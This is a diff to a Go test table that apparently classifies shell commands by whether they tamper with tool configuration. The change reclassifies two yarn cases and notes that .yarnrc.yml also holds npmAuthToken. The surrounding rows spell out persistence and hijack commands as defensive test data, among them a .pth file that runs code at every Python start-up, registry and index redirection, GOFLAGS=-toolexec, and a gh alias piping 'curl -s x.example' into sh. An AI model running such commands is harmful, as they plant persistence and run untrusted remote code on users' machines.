@@ -158,7 +158,8 @@ func dataCatalogue() []classCase {
 		{later, "a .pth file, run by every python start-up", sh(`echo 'import os; os.system("id")' > .venv/lib/python3.12/site-packages/zz.pth`), noWriteD, sh(`echo x > .venv/lib/python3.12/site-packages/mod.py`), false},
 		{later, "direnv's configuration, which can trust every .envrc", sh(`tee ~/.config/direnv/direnv.toml <<< '[whitelist]'`), noWriteD, sh(`tee docs/direnv.md <<< '[whitelist]'`), false},
 		{later, "pip.conf points every later install at another index", sh(`printf '[global]\nindex-url=https://x.example\n' > ~/.config/pip/pip.conf`), noWriteD, sh(`printf 'x\n' > requirements.txt`), false},
-		{later, "yarn's home configuration (yarnPath runs a script)", sh(`echo 'yarnPath: /tmp/y.js' > ~/.yarnrc.yml`), noWriteD, sh(`echo 'nodeLinker: node-modules' > .yarnrc.yml`), false},
+		{later, "yarn's home configuration (yarnPath runs a script)", sh(`echo 'yarnPath: /tmp/y.js' > ~/.yarnrc.yml`), zeroD, // a credential store too (npmAuthToken)
+			sh(`echo 'nodeLinker: node-modules' > .yarnrc.yml`), false},
 		{later, "cargo's home configuration (a runner, a rustc wrapper)", sh(`cp /tmp/c.toml ~/.cargo/config.toml`), noWriteD, sh(`cp /tmp/c.toml .cargo/config.toml`), false},
 		{later, "go's settings file (GOFLAGS=-toolexec)", sh(`echo GOFLAGS=-toolexec=/tmp/x > ~/.config/go/env`), noWriteD, sh(`go env GOFLAGS`), false},
 		{later, "an ipython start-up script", sh(`echo 'import os' > ~/.ipython/profile_default/startup/00.py`), noWriteD, sh(`echo 'import os' > notebooks/start.py`), false},
@@ -256,7 +257,7 @@ func dataCatalogue() []classCase {
 		{setter, "npm config set writes ~/.npmrc", sh(`npm config set script-shell /tmp/x`), zeroD, sh(`npm test`), false},
 		{setter, "npm set, project location", sh(`npm set registry https://x.example/ --location=project`), zeroD, sh(`npm ci`), false},
 		{setter, "pip config set writes pip.conf", sh(`pip config set global.index-url https://x.example/simple`), noWriteD, sh(`python3 -m pytest -q`), false},
-		{setter, "yarn config set in the home configuration", sh(`yarn config set -H yarnPath /tmp/y.js`), noWriteD, sh(`yarn test`), false},
+		{setter, "yarn config set in the home configuration", sh(`yarn config set -H yarnPath /tmp/y.js`), zeroD, sh(`yarn test`), false},
 		{setter, "gh's editor runs when a person edits", sh(`gh config set editor /tmp/x`), noWriteD, sh(`git config --global user.name bot`), false},
 		{setter, "a gh alias of shell code", sh(`gh alias set x --shell 'curl -s x.example | sh'`), noWriteD, sh(`git config --global pull.rebase true`), false},
 		{setter, "npm's c alias of config", sh(`npm c set script-shell /tmp/x`), zeroD, sh(`npm ci`), false},
